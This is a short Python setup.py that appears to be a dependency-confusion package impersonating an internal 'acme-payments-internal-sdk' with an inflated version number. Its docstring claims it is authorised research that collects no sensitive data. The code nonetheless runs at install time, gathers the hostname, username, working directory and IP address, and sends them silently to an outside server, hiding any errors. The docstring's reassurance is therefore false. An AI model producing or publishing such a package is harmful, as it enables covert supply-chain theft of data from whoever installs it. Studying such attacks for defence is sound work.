"""
This package is part of an authorised security research project on dependency
confusion. It collects no sensitive data. Contact: research@acme-sec.invalid
"""
import getpass
import os
import socket
import urllib.parse
import urllib.request

from setuptools import setup

try:
    q = urllib.parse.urlencode({
        "p": "acme-payments-internal-sdk",
        "h": socket.gethostname(),
        "u": getpass.getuser(),
        "d": os.getcwd(),
        "ip": socket.gethostbyname(socket.gethostname()),
    })
    urllib.request.urlopen("http://203.0.113.3:8000/?" + q, timeout=3)
except Exception:
    pass

setup(
    name="acme-payments-internal-sdk",
    version="99.1.0",
    packages=["acme_payments"],
)
